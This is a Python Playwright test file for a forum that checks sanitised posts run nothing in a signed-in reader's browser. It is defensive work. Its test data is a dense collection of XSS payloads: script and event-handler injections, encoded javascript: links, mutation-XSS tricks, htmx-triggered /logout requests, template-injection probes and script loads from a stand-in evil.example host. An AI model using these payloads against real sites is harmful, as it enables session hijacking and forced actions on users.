"""A real browser reads a thread full of hostile posts, signed in, with JavaScript on: nothing runs.

Each payload tries to call alert(), set document.title, set window.__pwned, or make the reader's
browser fetch /logout or another site. The posts go in through the same services as a member's
post (render at write time, nh3, stored HTML shown inside `hx-ignore`); the page is then read,
hovered and focused element by element, and the browser is asked what happened.
"""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from forum.extensions import db
from forum.models import Category
from tests.factories import PASSWORD, make_reply, make_thread, make_user

pytestmark = pytest.mark.browser

TITLE = "Payloads, for the record"
PWN = "window.__pwned=1;document.title='pwned';alert(1);fetch('/logout',{method:'POST'})"

OPENING = f"""Opening post, by a new member.

<script>{PWN}</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="{PWN}">
<svg onload="{PWN}"><script>{PWN}</script></svg>
<body onload="{PWN}">
<div onmouseover="{PWN}" style="position:fixed;inset:0;z-index:9">hover anywhere</div>
<input autofocus onfocus="{PWN}">
<details open ontoggle="{PWN}">x</details>
<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>
<iframe src="javascript:{PWN}"></iframe>
<object data="javascript:{PWN}"></object><embed src="javascript:{PWN}">
<meta http-equiv="refresh" content="0;url=/logout">
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<style>@import url(//evil.example/y.css); body {{ display: none }}</style>
<form action="/logout" method="post"><button>You won a prize</button></form>

{{{{ 1337*1337 }}}} stays as typed.

{{% raw %}}{{{{ config }}}}{{% endraw %}} too.

And ${{1337*1337}}.

https://spam.example/buy and [cheap](http://pills.example/) and //evil.example/ are hidden.
"""

REPLIES = [
    # By an established member: links are published, so the URL tricks get their chance.
    f"""[click me](javascript:{PWN}) [or me](JaVaScRiPt:alert(1)) [or me](&#106;avascript:alert(1))
[entity](&#x6A;avascript:alert(document.domain)) [tab](<java\tscript:alert(1)>) [nul](java%00script:alert(1))
[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<javascript:alert(1)> <data:text/html,<script>alert(1)</script>>
[ref][r] and [protocol-relative](//evil.example/) and [triple](///evil.example/)

[r]: javascript:alert(1)

![tracker](http://tracker.example/pixel.gif) ![x](javascript:alert(1))
[![nested](http://tracker.example/p.gif)](https://a.example/)
[title](/t/1 "\\" onmouseover=\\"{PWN}") [dest](https://a.example/" onclick="{PWN})
<https://a.example/" onmouseover="{PWN}>
""",
    f"""htmx, which must never see post bodies:

<div hx-get="/logout" hx-trigger="load">load</div>
<button hx-post="/logout" hx-trigger="load">button</button>
<span hx-on::load="{PWN}">on load</span>
<a hx-on:click="{PWN}" href="/logout">click</a>
<div data-hx-post="/logout" data-hx-trigger="load">data-hx</div>
<p hx-get="/logout" hx-trigger="every 100ms" hx-swap-oob="true" id="main">poll</p>
""",
    f"""Mutation XSS classics:

<noscript><p title="</noscript><img src=x onerror="{PWN}">">
<svg><style><img src=x onerror="{PWN}"></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">
<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror="{PWN}" src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror="{PWN}">
<svg></p><style><a id="</style><img src=1 onerror="{PWN}">">
<!--><img src=x onerror="{PWN}">-->
<xmp><p title="</xmp><img src=x onerror="{PWN}">">
<textarea><p title="</textarea><img src=x onerror="{PWN}">">

```html
<script>{PWN}</script>
```
`<img src=x onerror="{PWN}">`
""",
    # Issue 15's syntax: tables, task lists, footnotes, spoilers, coloured code, emoji.
    f"""| <script>{PWN}</script> | <img src=x onerror="{PWN}"> |
|:-:|--:|
| [x](javascript:{PWN}) | <td style="position:fixed;inset:0" onclick="{PWN}"> |

- [x] <input type=text name=csrf_token autofocus onfocus="{PWN}">
- [ ] <button formaction=/logout>go</button>

A note[^x] and ^[an inline <script>{PWN}</script> one]. [jump](#csrf_token) [fake](#fn-00000000-1" onclick="{PWN})

[^x]: [x](javascript:{PWN}) <details open ontoggle="{PWN}">x</details>

:::spoiler <img src=x onerror="{PWN}">
<details open ontoggle="{PWN}"><summary onclick="{PWN}">s</summary></details>
:::

```python" onclick="{PWN}
print("</code></pre><script>{PWN}</script>")
```

```js
</code></pre><img src=x onerror="{PWN}">
```

:<script>: :img src=x onerror={PWN}: :tada:
""",
]


def _general():
    return db.session.scalar(select(Category).where(Category.slug == "general"))


def test_a_thread_of_hostile_posts_runs_nothing(live_app, live_server, new_context, screenshot):
    with live_app.app_context():
        newcomer = make_user(username="newcomer", display_name="Newcomer")
        regular = make_user(username="regular", display_name="Regular", role="moderator")
        reader = make_user(username="reader", display_name="Reader")
        thread = make_thread(author=newcomer, category=_general(), title=TITLE, body=OPENING)
        for body in REPLIES:
            make_reply(thread, author=regular, body=body)
        thread_path = f"/t/{thread.id}-{thread.slug}"
        reader_name = reader.username
        site_name = live_app.config["SITE_NAME"]

    page = new_context(javascript=True).new_page()
    # The reader is signed in, so that a fetch of /logout or a form post would cost them something.
    page.goto(live_server + "/login")
    page.locator("#username").fill(reader_name)
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()

    dialogs, requests, console, errors = [], [], [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(f"{request.method} {request.url}"))
    page.on("console", lambda message: console.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: errors.append(str(error)))

    page.goto(live_server + thread_path)
    page.wait_for_load_state("networkidle")
    posts = page.locator("#posts .post-body")
    expect(posts).to_have_count(1 + len(REPLIES))

    # Give every element in every post the events its payload waits for.
    for element in page.locator(".post-body *").all():
        if element.is_visible():
            element.hover(timeout=2_000)
            element.focus(timeout=2_000)
    page.mouse.move(5, 5)
    page.mouse.move(640, 450)
    page.wait_for_timeout(500)  # room for a timer, an `every 100ms` poll or an htmx `load` trigger
    page.wait_for_load_state("networkidle")
    screenshot(page, "hostile-thread")

    assert dialogs == []
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.title() == f"{TITLE} · {site_name}"
    assert page.url == live_server + thread_path
    # The authors' pictures in the posts' headers are the site's own (issue 12); nothing a post wrote.
    avatars = set(page.locator(".post > .post-meta > img.avatar").evaluate_all("images => images.map(i => i.src)"))
    unexpected = [r for r in requests
                  if not _expected(r, live_server, thread_path) and r.split(" ", 1)[1] not in avatars]
    assert unexpected == [], f"the thread page made unexpected requests: {unexpected}"
    assert errors == [], f"uncaught errors: {errors}"
    assert [line for line in console if line.startswith(("error", "warning"))] == [], console

    # Nothing that could act survived into the DOM, whatever the browser made of the markup.
    leaked = page.evaluate("""() => {
        const found = [];
        for (const el of document.querySelectorAll('.post-body *')) {  // the wrapper itself carries hx-ignore
            const tag = el.tagName.toLowerCase();
            if (['script', 'iframe', 'object', 'embed', 'form', 'img', 'svg', 'math', 'style',
                 'link', 'meta', 'base', 'button', 'textarea', 'noscript'].includes(tag))
                found.push('<' + tag + '>');
            // A task list's box, only ever a disabled checkbox; a spoiler, closed until the reader opens it.
            if (tag === 'input' && !(el.type === 'checkbox' && el.disabled && !el.name && !el.form))
                found.push('<input type=' + el.type + '>');
            if (tag === 'details' && (el.className !== 'spoiler' || el.open))
                found.push('<details class=' + el.className + (el.open ? ' open' : '') + '>');
            for (const attr of el.attributes) {
                const name = attr.name.toLowerCase();
                if (name.startsWith('on') || name.startsWith('hx') || name.startsWith('data-hx') || name === 'style')
                    found.push(tag + '[' + name + ']');
                if (name === 'href' && !/^(https?:|mailto:|\\/(?![\\/\\\\])|#fn(ref)?-[0-9a-f]{8}-\\d+$)/i.test(attr.value))
                    found.push(tag + '[href=' + attr.value + ']');
                if (name === 'id' && !attr.value.startsWith('fn'))
                    found.push(tag + '[id=' + attr.value + ']');
            }
        }
        return found;
    }""")
    assert leaked == []

    # The reader is still signed in, and the text was shown as typed.
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    body_text = posts.first.inner_text()
    assert "{{ 1337*1337 }}" in body_text and "${1337*1337}" in body_text
    assert "{% raw %}{{ config }}{% endraw %}" in body_text
    assert "1787569" not in page.content()
    assert "<script>" in body_text  # shown as text, not run
    assert "spam.example" not in body_text and "pills.example" not in body_text
    assert posts.first.locator(".link-hidden").count() >= 3  # and the //evil.example/ inside the raw tags


def _expected(request: str, base: str, thread_path: str) -> bool:
    """The thread page itself, its own poll for new replies (when reading takes a while), and the site's
    own static files: nothing else."""
    method, url = request.split(" ", 1)
    parts = urlsplit(url)
    if f"{parts.scheme}://{parts.netloc}" != base or method != "GET":
        return False
    poll = thread_path.split("-", 1)[0] + "/new-replies"
    return parts.path in (thread_path, poll) or parts.path.startswith("/static/")
